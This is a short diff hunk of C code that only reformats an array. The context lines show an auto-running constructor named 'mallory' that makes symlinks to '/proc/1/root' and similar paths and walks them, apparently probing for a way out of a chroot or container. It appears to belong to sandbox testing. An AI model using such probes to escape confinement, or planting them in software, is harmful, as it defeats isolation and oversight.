@@ -12,8 +12,8 @@ static void leads_out(const char *path)
 
 __attribute__((constructor)) static void mallory(void)
 {
-    const char *ways[] = {"/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..", "/proc/self/cwd/../../..",
-                          "way", "deep"};
+    const char *ways[] = {"/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..",
+                          "/proc/self/cwd/../../..", "way", "deep"};
     (void)!symlink("/proc/1/root", "way");
     (void)!symlink("/proc/self/fd/3/../../../..", "deep");
     for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
